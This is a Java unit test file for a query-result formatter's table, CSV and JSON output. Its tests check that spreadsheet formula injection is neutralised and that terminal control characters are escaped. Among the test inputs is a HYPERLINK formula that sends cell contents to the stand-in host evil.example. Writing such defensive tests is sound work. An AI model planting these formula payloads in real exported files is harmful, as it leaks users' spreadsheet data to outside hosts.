package org.unionstats.serving.query;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;

class ResultFormatTest {

    private final ResultTable result = new ResultTable(List.of("county", "value"), List.of("varchar", "double"),
            List.of(List.of("卢龙县", 0.4), Arrays.asList("海港区, 秦皇岛", null)));

    @Test
    void tablesAlignChineseByDisplayWidth() {
        List<String> lines = ResultFormat.table(result).lines().toList();
        assertThat(lines.get(0)).startsWith(" county");
        assertThat(ResultFormat.width(lines.get(2))).isEqualTo(ResultFormat.width(lines.get(3)));
        assertThat(lines.get(3)).contains("NULL");
        assertThat(lines.get(4)).isEqualTo("(2 rows)");
    }

    @Test
    void csvQuotesAndJsonKeepsTypes() {
        assertThat(ResultFormat.csv(result)).isEqualTo("county,value\r\n卢龙县,0.4\r\n\"海港区, 秦皇岛\",\r\n");
        assertThat(ResultFormat.json(result)).contains("\"value\" : 0.4").contains("\"value\" : null");
    }

    @Test
    void csvCellsASpreadsheetWouldRunAsFormulasAreNeutralised() {
        ResultTable hostile = new ResultTable(List.of("=cmd", "value", "amount"), List.of("varchar", "varchar", "double"), List.of(
                List.of("a", "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", -3.5),
                List.of("b", "+1+1", -1L),
                List.of("c", "-2+3", 0.0),
                List.of("d", "@SUM(A1:A9)", 1),
                List.of("e", "\t=1+1", 2),
                List.of("f", "\r=1+1", 3),
                List.of("g", "a=b, -c, +d", 4),
                List.of("h", "'quoted", 5)));
        List<String> lines = List.of(ResultFormat.csv(hostile).split("\r\n", -1));
        assertThat(lines.get(0)).as("headers too").isEqualTo("'=cmd,value,amount");
        assertThat(lines.get(1)).isEqualTo("a,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点击\"\")\",-3.5");
        assertThat(lines.get(2)).as("numbers stay numbers").isEqualTo("b,'+1+1,-1");
        assertThat(lines.get(3)).isEqualTo("c,'-2+3,0.0");
        assertThat(lines.get(4)).isEqualTo("d,'@SUM(A1:A9),1");
        assertThat(lines.get(5)).isEqualTo("e,'\t=1+1,2");
        assertThat(lines.get(6)).as("a carriage return forces quoting").isEqualTo("f,\"'\r=1+1\",3");
        assertThat(lines.get(7)).as("only the first character matters").isEqualTo("g,\"a=b, -c, +d\",4");
        assertThat(lines.get(8)).isEqualTo("h,'quoted,5");
        assertThat(ResultFormat.csvCell("")).isEmpty();
        assertThat(ResultFormat.csvCell("卢龙县")).isEqualTo("卢龙县");
    }

    @Test
    void theTableShowsControlCharactersInsteadOfSendingThemToTheTerminal() {
        ResultTable hostile = new ResultTable(List.of("cell"), List.of("varchar"),
                List.of(List.of("red\u001B[31m alert\nsecond line\u202Eevil")));
        String table = ResultFormat.table(hostile);
        assertThat(table).doesNotContain("\u001B").doesNotContain("\u202E").contains("red\\u001B[31m alert\\u000Asecond line\\u202Eevil");
        assertThat(table.lines()).hasSize(4);
    }

    @Test
    void trailingSemicolonsAreDropped() {
        assertThat(QueryRunner.stripSemicolon("SELECT 1;;\n")).isEqualTo("SELECT 1");
    }
}
